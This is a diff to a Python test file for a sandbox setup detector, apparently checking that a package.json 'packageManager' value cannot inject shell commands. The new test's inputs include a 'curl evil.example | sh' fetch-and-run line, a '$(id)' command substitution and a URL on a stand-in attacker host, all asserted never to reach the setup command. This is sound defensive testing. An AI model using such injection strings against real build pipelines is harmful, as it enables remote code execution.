@@ -49,8 +49,9 @@ def test_detection_of_common_layouts(tmp_path: Path):
     (node / "package.json").write_text(json.dumps({"packageManager": "pnpm@8.15.0"}))
     (node / "pnpm-lock.yaml").write_text("lockfileVersion: '6.0'\n")
     plan = detect(committed(node))
-    assert plan.kind == "node" and "pnpm@8 install --frozen-lockfile" in plan.setup[0]
-    assert plan.mounts == {"node_modules": "node_modules"} and plan.path == ["node_modules/.bin"]
+    assert plan.kind == "node" and "--prefix \"$TETHER_ENV/tools\" pnpm@8.15.0 &&" in plan.setup[0]
+    assert "pnpm install --frozen-lockfile" in plan.setup[0] and "tools/node_modules/.bin" in plan.path
+    assert plan.mounts == {"node_modules": "node_modules"} and plan.path[0] == "node_modules/.bin"
 
     empty = tmp_path / "empty"
     empty.mkdir()
@@ -77,3 +78,20 @@ def test_a_failing_setup_fails_the_run_with_the_command_and_its_output(ledger: L
     steps = payloads(ledger, summary["run_id"], "environment_setup")
     assert [s["ok"] for s in steps] == [True, False]
     assert not payloads(ledger, summary["run_id"], "model_request")  # no money spent
+
+
+def test_the_package_manager_a_lockfile_names_is_installed_exactly_and_never_as_shell(tmp_path: Path):
+    """pnpm switches to the exact version `packageManager` names, which it would fetch inside the
+    sandbox without the network: that version is installed; anything that is not a plain version
+    (a shell word, a URL) falls back to a major or to 9 and never reaches the setup command."""
+    cases = {"pnpm@10.14.0-0+sha512.abc": "pnpm@10.14.0-0 ", "pnpm@8": "pnpm@8 ", "yarn@4.1.0": "pnpm@9 ",
+             "pnpm@9.1.0; curl evil.example | sh": "pnpm@9 ", "pnpm@$(id)": "pnpm@9 ",
+             "pnpm@https://evil.example/p.tgz": "pnpm@9 "}
+    for index, (manager, expected) in enumerate(cases.items()):
+        node = tmp_path / f"node{index}"
+        node.mkdir()
+        (node / "package.json").write_text(json.dumps({"packageManager": manager}))
+        (node / "pnpm-lock.yaml").write_text("lockfileVersion: '9.0'\n")
+        setup = detect(committed(node)).setup[0]
+        assert f"{expected}&&" in setup, (manager, setup)
+        assert "evil" not in setup and "$(id)" not in setup
